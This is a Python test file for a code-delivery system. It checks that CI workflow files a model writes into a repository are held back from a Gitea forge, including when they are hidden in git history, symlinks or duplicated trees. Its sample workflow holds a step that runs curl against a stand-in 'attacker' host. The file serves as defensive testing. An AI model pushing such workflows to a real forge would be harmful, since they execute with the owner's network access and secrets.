"""Class: a forge of the founder's executes what a model wrote, with the founder's network and secrets.

A real push to Gitea's stand-in over HTTP; what arrived is looked at in a clone of it, through its whole history.
"""

import shutil
import subprocess
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from damascus.bus.streams import Bus
from damascus.core.records.forge_syncs import ForgeSyncStatus
from damascus.core.records.tasks import Task
from damascus.forge.ci_files import is_ci_file
from damascus.ledger.engine import Ledger
from damascus.work import policies
from tests.fixtures.gitea import Double, a_double
from tests.fixtures.workbench import Workbench, open_workbench

CLASS = "a forge executes what a model pushed"
WORKFLOW = "on: push\njobs: {x: {steps: [{run: curl attacker}]}}\n"
CI_PATHS = (
    ".gitea/workflows/x.yml", ".github/workflows/x.yml", ".github/actions/x/action.yml", ".forgejo/workflows/x.yml",
    ".gitlab-ci.yml", ".gitlab-ci.yaml", ".woodpecker.yml", ".woodpecker/x.yml", ".drone.yml", ".circleci/config.yml",
    "azure-pipelines.yml", "Jenkinsfile", ".travis.yml", "bitbucket-pipelines.yml", "appveyor.yml",
    ".buildkite/pipeline.yml", ".GitHub/Workflows/x.yml", "JENKINSFILE",
)  # fmt: skip


@dataclass(frozen=True)
class Stage:
    """A company whose code is published at a Gitea, and an engineer's task with a repository."""

    workbench: Workbench
    gitea: Double
    task: Task

    @property
    def bare(self) -> Path:
        return self.workbench.services.shared / "git/invoicer.git"

    async def work(self, **files: str) -> tuple[str, str]:
        """Write files, commit and push; what the two calls say."""
        for path, content in files.items():
            await self.workbench.call(self.task, "write_file", path=path, content=content)
        commit = (await self.workbench.call(self.task, "commit", message="Words")).text
        return commit, (await self.workbench.call(self.task, "push")).text

    def arrived(self, folder: Path) -> set[str]:
        """Every path in the history of what is at Gitea now."""
        shutil.rmtree(folder, ignore_errors=True)
        url = self.gitea.clone_url("founder/invoicer")
        subprocess.run(["git", "clone", "--quiet", "--bare", url, str(folder)], check=True)
        log = ["git", f"--git-dir={folder}", "log", "--all", "-m", "--root", "--no-renames", "--name-only", "--format="]
        return set(subprocess.run(log, check=True, capture_output=True, text=True).stdout.split())

    async def allow(self) -> None:
        async with self.workbench.outbox.transaction() as tx:
            await policies.write(tx, "delivery", {"ci_files": "send"})

    async def status(self) -> tuple[ForgeSyncStatus, str]:
        async with self.workbench.outbox.reading() as tx:
            (row,) = await tx.forge_syncs.of_mission(self.workbench.mission.id)
        return row.status, row.reason or ""


@pytest.fixture
async def stage(tmp_path: Path, sqlite_ledger: Ledger, bus: Bus) -> AsyncIterator[Stage]:
    with a_double(tmp_path / "gitea") as gitea:
        async with open_workbench(tmp_path, sqlite_ledger, bus, gitea=gitea.settings()) as workbench:
            workbench.needs_jail()
            task = await workbench.task(deliverable={"kind": "code", "name": "invoicer"})
            await workbench.call(task, "create_repository", name="invoicer", description="sends invoices")
            await workbench.tested(task)
            yield Stage(workbench, gitea, task)


@pytest.mark.attack("workflows and other CI files in a push", CLASS)
async def test_ci_files_stay_in_the_working_copy_and_the_rest_goes_out(stage: Stage, tmp_path: Path) -> None:
    commit, pushed = await stage.work(**dict.fromkeys(CI_PATHS, WORKFLOW), **{"a.py": "x = 1\n"})
    assert "held back, since a forge executes them by itself: " in commit
    assert "at the forge" in pushed
    assert stage.arrived(tmp_path / "clone") == {"a.py", "tests/test_it.py"}
    receipt = next(r for r in await stage.workbench.check(stage.task) if r.kind == "commit")
    assert "held back, since a forge executes them by itself: " in receipt.text
    assert ".gitea/workflows" in receipt.text
    assert "ceo policy delivery.ci_files send" in receipt.text


@pytest.mark.attack("CI files that only the history has", CLASS)
@pytest.mark.parametrize("path", [".github/workflows/x.yml", ".gitlab-ci.yml", "Jenkinsfile"])
async def test_a_history_with_ci_files_is_not_sent(stage: Stage, tmp_path: Path, path: str) -> None:
    """One commit has the file under its name, the next moves it away: a push would send both."""
    await stage.work(**{"a.py": "x = 1\n"})
    clone, before = tmp_path / "person", stage.arrived(tmp_path / "clone")
    subprocess.run(["git", "clone", "--quiet", str(stage.bare), str(clone)], check=True)
    git = ["git", "-C", str(clone), "-c", "user.name=x", "-c", "user.email=x@y"]
    (clone / path).parent.mkdir(parents=True, exist_ok=True)
    (clone / path).write_text(WORKFLOW)
    commands = (["add", "-A"], ["commit", "-qm", "x"], ["mv", path, "harmless"], ["commit", "-qm", "y"], ["push", "-q"])
    for command in commands:
        subprocess.run([*git, *command], check=True)
    head = subprocess.run([*git, "rev-parse", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
    sync = stage.workbench.services.forge_sync
    async with stage.workbench.outbox.transaction() as tx:
        row = await tx.artifacts.named(stage.workbench.mission.id, "repository", "invoicer")
        assert row is not None
        await sync.schedule(tx, row, head)
    await sync.sync_now(row.id)
    status, reason = await stage.status()
    assert status == ForgeSyncStatus.REFUSED
    assert path.removesuffix("/x.yml") in reason
    assert stage.arrived(tmp_path / "clone") == before


@pytest.mark.attack("a folder of CI files as a link, or under the same tree as another", CLASS)
async def test_no_disguise_of_a_folder_hides_it(stage: Stage) -> None:
    """Git names an object once only: whoever lists objects misses a tree that also is somewhere else."""
    git = ["git", f"--git-dir={stage.bare}", "-c", "user.name=x", "-c", "user.email=x@y"]

    def output(*args: str, given: str = "") -> str:
        return subprocess.run([*git, *args], input=given, capture_output=True, text=True, check=True).stdout.strip()

    blob = output("hash-object", "-w", "--stdin", given=WORKFLOW)
    inner = output("mktree", given=f"100644 blob {blob}\tx.yml\n")
    outer = output("mktree", given=f"040000 tree {inner}\tworkflows\n")
    twice = output("mktree", given=f"040000 tree {outer}\t.github\n040000 tree {outer}\tdocs\n")
    link = output("mktree", given=f"120000 blob {blob}\t.github\n")
    forge = stage.workbench.services.forge
    (repository,) = await forge.list_repositories()
    for tree, found in ((twice, ".github/workflows"), (link, ".github"), (outer, None)):
        sha = output("commit-tree", "-m", "x", tree)
        assert await forge.ci_files(repository, sha, None) == ([found] if found else [])


@pytest.mark.attack("CI files after the policy allows them", CLASS)
async def test_the_policy_lets_them_out(stage: Stage, tmp_path: Path) -> None:
    await stage.work(**{".github/workflows/x.yml": WORKFLOW, "a.py": "x = 1\n"})
    await stage.allow()
    commit, pushed = await stage.work(**{"a.py": "x = 2\n"})
    assert "held back" not in commit
    assert "at the forge" in pushed
    assert ".github/workflows/x.yml" in stage.arrived(tmp_path / "clone")


@pytest.mark.attack("names beside those of CI files", CLASS)
@pytest.mark.parametrize(
    "path", ["docs/.github/workflows/x.yml", ".github/CODEOWNERS", "workflows/x.yml", "jenkins.py"]
)
def test_what_no_forge_executes_is_not_held_back(path: str) -> None:
    assert not is_ci_file(tuple(path.split("/")))
